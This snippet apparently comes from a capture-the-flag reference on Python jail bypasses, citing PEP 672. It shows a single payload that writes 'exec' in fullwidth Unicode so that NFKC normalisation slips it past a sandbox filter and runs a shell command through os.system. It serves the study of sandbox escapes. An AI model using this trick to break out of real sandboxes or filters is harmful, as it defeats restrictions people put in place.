# Source: https://github.com/kiwamizamurai/cctf/blob/main/.claude/skills/pyjail/reference/bypass.md (pyjail bypass techniques); PEP 672, Unicode-related Security Considerations for Python (https://peps.python.org/pep-0672/) (NFKC: fullwidth exec is exec)
ｅｘｅｃ("import os; os.system('id')")
